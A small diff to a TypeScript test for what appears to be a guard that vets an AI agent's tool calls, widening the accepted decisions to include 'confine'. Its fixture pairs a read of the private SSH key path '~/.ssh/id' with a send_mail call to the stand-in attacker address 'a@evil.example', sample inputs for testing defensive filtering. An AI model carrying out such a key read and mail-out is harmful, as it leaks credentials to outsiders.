@@ -291,7 +291,7 @@ describe("verification", () => {
       fence.intent(h, "mail bob@example.com about ~/.ssh/config");
       for (const [tool, args] of [["read_file", { path: "~/.ssh/id" }], ["send_mail", { to: ["a@evil.example", "bob@example.com"] }], ["x", {}]] as const) {
         const d = fence.decide(h, tool, args);
-        expect(["allow", "block", "ask"]).toContain(d.kind);
+        expect(["allow", "block", "ask", "confine"]).toContain(d.kind);
       }
       fence.disasm();
     }
